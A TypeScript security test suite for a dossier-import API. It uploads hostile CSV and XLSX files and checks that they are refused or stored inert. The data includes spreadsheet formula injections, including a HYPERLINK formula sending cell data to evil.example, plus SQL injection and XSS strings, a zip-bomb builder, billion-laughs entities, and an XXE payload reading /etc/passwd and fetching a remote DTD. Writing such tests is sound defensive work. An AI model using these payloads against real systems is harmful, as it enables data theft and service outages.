/**
 * Hostile import files for POST /api/admin/dossiers/import: spreadsheet formulas, HTML, SQL,
 * huge cells, broken UTF-8, corrupt and bomb zips, XML entities (XXE, billion laughs). Each is
 * refused (4xx, nothing stored) or stored as inert text exactly as written; never a 5xx.
 */
import { createServer, type Server } from 'node:http';
import { deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import JSZip from 'jszip';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startTestHub, type TestHub } from '../support/test-hub';
import { contentDigest } from './helpers/db';
import { HOSTILE_STRINGS, XSS_IMG, XSS_SCRIPT } from './helpers/hostile';
import { httpRaw, sessionToken } from './helpers/http';

let h: TestHub;
let token = '';
beforeAll(async () => {
  h = await startTestHub();
  token = await sessionToken(h.url, 'admin', h.creds.admin.password);
});
afterAll(async () => {
  await h.close();
});

async function upload(body: Buffer, name: string, contentType = 'application/octet-stream') {
  const r = await httpRaw(h.url, 'POST', `/api/admin/dossiers/import?name=${encodeURIComponent(name)}`, { authorization: `Bearer ${token}`, 'content-type': contentType }, body, { timeoutMs: 60_000 });
  return { status: r.status, body: r.json as { ok: boolean; data?: { imported: number }; error?: { code: string }; issues?: Array<{ line: number; column: string | null; code: string }> } };
}

const HEADER = 'Mã hồ sơ,Chủ hồ sơ,Thủ tục,Ngày tiếp nhận,Ngày hẹn trả,Trạng thái';
let seq = 0;
/** A fresh, valid dossier code for each row. */
const code = (): string => `000.00.00.H26-240115-${String((seq += 1)).padStart(4, '0')}`;
const csvCell = (s: string): string => `"${s.replace(/"/g, '""')}"`;
const row = (c: string, name: string, procedure = 'KS'): string => [c, csvCell(name), procedure, '15/01/2024', '18/01/2024', 'Đang xử lý'].join(',');
const nameOf = (c: string): string | null =>
  (h.store.db.prepare('SELECT applicant_name AS n FROM dossiers WHERE code = ?').get(c) as { n: string | null } | undefined)?.n ?? null;

const INERT_NAMES = [
  "=CMD|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  '+1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  XSS_IMG,
  XSS_SCRIPT,
  "Robert'); DROP TABLE dossiers;--",
  '1 UNION SELECT token_hash FROM devices',
  '\u202Egnp.exe',
  'Nguyễn <b>Văn</b> An',
];

describe('CSV files', () => {
  let before = '';
  beforeEach(() => {
    before = contentDigest(h.store);
  });

  it('formulas, HTML, SQL and control characters in the applicant name are stored as the exact text', async () => {
    const codes = INERT_NAMES.map(() => code());
    const csv = [HEADER, ...INERT_NAMES.map((n, i) => row(codes[i] ?? '', n))].join('\r\n');
    const r = await upload(Buffer.from(csv, 'utf8'), 'hostile.csv');
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    expect(r.body.data?.imported).toBe(INERT_NAMES.length);
    // cells are trimmed, nothing else is done to them
    INERT_NAMES.forEach((n, i) => expect(nameOf(codes[i] ?? '')).toBe(n.trim()));
    // the names live in the dossier table only: the event log carries a count
    const events = h.store.db.prepare("SELECT data_json FROM events WHERE type = 'dossier:changed'").all() as Array<{ data_json: string }>;
    for (const e of events) for (const n of INERT_NAMES) expect(e.data_json.includes(n)).toBe(false);
    expect(h.store.db.prepare('SELECT COUNT(*) AS n FROM tickets').get()).toEqual({ n: 0 });
  });

  it('formulas, HTML or SQL where a code, a procedure, a date or a status belongs: the whole file is refused, nothing stored', async () => {
    const cases: Array<[string, string]> = [
      ['=1+1', [HEADER, `=1+1,An,KS,15/01/2024,18/01/2024,Đang xử lý`].join('\n')],
      [XSS_SCRIPT, [HEADER, `${code()},An,${csvCell(XSS_SCRIPT)},15/01/2024,18/01/2024,Đang xử lý`].join('\n')],
      ['sql date', [HEADER, `${code()},An,KS,"15/01/2024'; DROP TABLE dossiers;--",18/01/2024,Đang xử lý`].join('\n')],
      ['formula status', [HEADER, `${code()},An,KS,15/01/2024,18/01/2024,"=IF(1,""Đã trả kết quả"")"`].join('\n')],
      ['script code', [HEADER, `${csvCell('<b>x</b>')},An,KS,15/01/2024,18/01/2024,Đang xử lý`].join('\n')],
      ['one good row, one bad', [HEADER, row(code(), 'An'), `${code()},An,${csvCell(XSS_IMG)},15/01/2024,18/01/2024,Đang xử lý`].join('\n')],
    ];
    for (const [label, csv] of cases) {
      const r = await upload(Buffer.from(csv, 'utf8'), 'bad.csv');
      expect(r.status, `${label}: ${JSON.stringify(r.body).slice(0, 200)}`).toBe(422);
      expect(r.body.error?.code).toBe('VALIDATION_FAILED');
      expect(r.body.issues?.length, label).toBeGreaterThan(0);
    }
    expect(contentDigest(h.store)).toBe(before);
  });

  it('huge cells: a 1 MB name is cut to 500 characters, a 1 MB code is refused', async () => {
    const c = code();
    const big = `${XSS_IMG}${'Ư'.repeat(1_000_000)}`;
    const ok = await upload(Buffer.from([HEADER, row(c, big)].join('\n'), 'utf8'), 'big-name.csv');
    expect(ok.status).toBe(200);
    expect(nameOf(c)?.length).toBeLessThanOrEqual(500);
    expect(nameOf(c)?.startsWith(XSS_IMG)).toBe(true);
    const mid = contentDigest(h.store);
    const bad = await upload(Buffer.from([HEADER, `${'A'.repeat(1_000_000)},An,KS,15/01/2024,18/01/2024,Đang xử lý`].join('\n'), 'utf8'), 'big-code.csv');
    expect(bad.status).toBe(422);
    expect(contentDigest(h.store)).toBe(mid);
  });

  it('broken UTF-8, UTF-16 and an over-limit body are refused with 4xx; NUL bytes never cause a 5xx', async () => {
    const good = Buffer.from([HEADER, row(code(), 'Nguyễn Văn An')].join('\n'), 'utf8');
    const broken = Buffer.concat([good.subarray(0, 60), Buffer.from([0xc3, 0x28, 0xe2, 0x82, 0xff, 0xfe]), good.subarray(60)]);
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from([HEADER, row(code(), 'An')].join('\n'), 'utf16le')]);
    const nul = Buffer.concat([good, Buffer.from([0, 0, 0])]);
    const nulAnswer = await upload(nul, 'nul.csv', 'text/csv');
    expect(nulAnswer.status).toBeLessThan(500);
    const afterNul = contentDigest(h.store);
    for (const [label, body] of [['broken', broken], ['utf16', utf16]] as const) {
      const r = await upload(body, `${label}.csv`, 'text/csv');
      expect(r.status, `${label}: ${JSON.stringify(r.body).slice(0, 200)}`).toBeGreaterThanOrEqual(400);
      expect(r.status, label).toBeLessThan(500);
    }
    const huge = await upload(Buffer.alloc(21 * 1024 * 1024, 0x41), 'huge.csv', 'text/csv');
    expect(huge.status).toBe(413);
    expect(huge.body.error?.code).toBe('PAYLOAD_TOO_LARGE');
    expect(contentDigest(h.store)).toBe(nulAnswer.status === 200 ? afterNul : before);
  });
});

async function workbook(rows: ExcelJS.CellValue[][]): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const sheet = wb.addWorksheet('Hồ sơ');
  sheet.addRow(['Mã hồ sơ', 'Chủ hồ sơ', 'Thủ tục', 'Ngày tiếp nhận', 'Ngày hẹn trả', 'Trạng thái']);
  for (const r of rows) sheet.addRow(r);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

/** Rewrites the first worksheet's XML of an XLSX. */
async function withSheetXml(xlsx: Buffer, edit: (xml: string) => string): Promise<Buffer> {
  const zip = await JSZip.loadAsync(xlsx);
  const path = 'xl/worksheets/sheet1.xml';
  const xml = await zip.file(path)?.async('string');
  if (xml === undefined) throw new Error('no sheet1.xml');
  zip.file(path, edit(xml));
  return Buffer.from(await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' }));
}

/** A zip of `parts` entries, each `partBytes` of zeros (deflated to almost nothing). */
function zipBomb(parts: number, partBytes: number): Buffer {
  const data = deflateRawSync(Buffer.alloc(partBytes), { level: 9 });
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (let i = 0; i < parts; i += 1) {
    const name = Buffer.from(`xl/worksheets/sheet${i + 1}.xml`);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8); // deflate
    local.writeUInt32LE(0, 14); // crc (wrong on purpose: nothing should get that far)
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(1000, 22); // a small declared size: declared sizes must not be trusted
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(1000, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += local.length + name.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts, 8);
  end.writeUInt16LE(parts, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

describe('XLSX files', () => {
  let outbound: Server;
  let outboundHits = 0;
  let outboundUrl = '';
  beforeAll(async () => {
    outbound = createServer((_req, res) => {
      outboundHits += 1;
      res.end('<!ENTITY x "PWNED-BY-XXE">');
    });
    await new Promise<void>((r) => outbound.listen(0, '127.0.0.1', () => r()));
    const a = outbound.address();
    outboundUrl = `http://127.0.0.1:${typeof a === 'object' && a ? a.port : 0}/evil.dtd`;
  });
  afterAll(async () => {
    await new Promise<void>((r) => outbound.close(() => r()));
  });

  it('formulas with and without a cached result, HTML and SQL in names are stored as text, never evaluated', async () => {
    const c = [code(), code(), code(), code()];
    const xlsx = await workbook([
      [c[0], { formula: 'HYPERLINK("http://evil.example","x")', result: 'Bấm vào' }, 'KS', '15/01/2024', '18/01/2024', 'Đang xử lý'],
      [c[1], { formula: 'CMD|\' /C calc\'!A0' }, 'KS', '15/01/2024', '18/01/2024', 'Đang xử lý'],
      [c[2], XSS_SCRIPT, 'KS', '15/01/2024', '18/01/2024', 'Đang xử lý'],
      [c[3], "x'); DROP TABLE dossiers;--", 'KS', '15/01/2024', '18/01/2024', 'Đang xử lý'],
    ]);
    const r = await upload(xlsx, 'hostile.xlsx');
    expect(r.status, JSON.stringify(r.body).slice(0, 300)).toBe(200);
    expect(nameOf(c[0] ?? '')).toBe('Bấm vào');
    expect(nameOf(c[1] ?? '')).toBe("=CMD|' /C calc'!A0");
    expect(nameOf(c[2] ?? '')).toBe(XSS_SCRIPT);
    expect(nameOf(c[3] ?? '')).toBe("x'); DROP TABLE dossiers;--");
  });

  it('corrupt zips, truncated workbooks, zip bombs and XML entity tricks are refused (4xx), nothing stored, no outbound fetch', async () => {
    const before = contentDigest(h.store);
    const good = await workbook([[code(), 'An', 'KS', '15/01/2024', '18/01/2024', 'Đang xử lý']]);
    const xxeFile = await withSheetXml(good, (xml) =>
      xml.replace('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % remote SYSTEM "${outboundUrl}">%remote;]>`).replace('>An<', '>&xxe;<'),
    );
    const laughs = await withSheetXml(good, (xml) => {
      const ents = ['<!ENTITY l0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`)].join('');
      return xml.replace('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', `<?xml version="1.0"?><!DOCTYPE w [${ents}]>`).replace('>An<', '>&l9;<');
    });
    const files: Array<[string, Buffer]> = [
      ['pk junk', Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), Buffer.alloc(500, 0x41)])],
      ['truncated', good.subarray(0, Math.floor(good.length / 2))],
      ['bit flips', Buffer.from(good.map((b, i) => (i > 200 && i % 97 === 0 ? b ^ 0xff : b)))],
      ['zip bomb', zipBomb(6, 50 * 1024 * 1024)],
      ['xxe', xxeFile],
      ['billion laughs', laughs],
      ['ole2 .xls', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)])],
    ];
    for (const [label, body] of files) {
      const started = Date.now();
      const r = await upload(body, `${label}.xlsx`);
      const stored = h.store.db.prepare("SELECT applicant_name AS n FROM dossiers WHERE applicant_name GLOB '*root:x:*' OR applicant_name GLOB '*PWNED-BY-XXE*' OR applicant_name GLOB '*lollollol*'").all();
      expect(stored, label).toEqual([]);
      if (r.status === 200) {
        // an XML parser that ignores the DOCTYPE may still read the row: then the entity stays unexpanded text
        expect(['xxe', 'billion laughs'], `${label} was accepted`).toContain(label);
      } else {
        expect(r.status, `${label}: ${JSON.stringify(r.body).slice(0, 200)}`).toBeGreaterThanOrEqual(400);
        expect(r.status, label).toBeLessThan(500);
      }
      expect(Date.now() - started, `${label} took too long`).toBeLessThan(20_000);
    }
    expect(outboundHits, 'the hub fetched an external entity').toBe(0);
    const imported = h.store.db.prepare("SELECT COUNT(*) AS n FROM dossiers WHERE channel = 'online'").get() as { n: number };
    const accepted = contentDigest(h.store) !== before;
    if (accepted) expect(imported.n).toBeGreaterThan(0);
  });

  it('random bytes with CSV and XLSX names and types: never a 5xx, nothing stored unless 200', async () => {
    const good = await workbook([[code(), 'An', 'KS', '15/01/2024', '18/01/2024', 'Đang xử lý']]);
    const body = fc.oneof(
      fc.uint8Array({ maxLength: 4_000 }).map((b) => Buffer.from(b)),
      fc.tuple(fc.nat({ max: good.length }), fc.uint8Array({ minLength: 1, maxLength: 40 })).map(([at, junk]) => Buffer.concat([good.subarray(0, at), Buffer.from(junk), good.subarray(at + junk.length)])),
      fc.array(fc.constantFrom(...HOSTILE_STRINGS, ',', '"', '\n', '\r', ';', HEADER), { maxLength: 60 }).map((parts) => Buffer.from(parts.join(''), 'utf8')),
    );
    await fc.assert(
      fc.asyncProperty(body, fc.constantFrom('x.csv', 'x.xlsx', 'x.txt', 'x', '../x.csv', 'x.csv\u0000.xlsx'), fc.constantFrom('text/csv', 'application/octet-stream', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', ''), async (b, name, type) => {
        const before = contentDigest(h.store);
        const r = await upload(b, name, type);
        expect(r.status, `${name} ${type} ${b.length} B → ${JSON.stringify(r.body).slice(0, 200)}`).toBeLessThan(500);
        if (r.status !== 200) expect(contentDigest(h.store)).toBe(before);
      }),
      { numRuns: 60 },
    );
  });
});
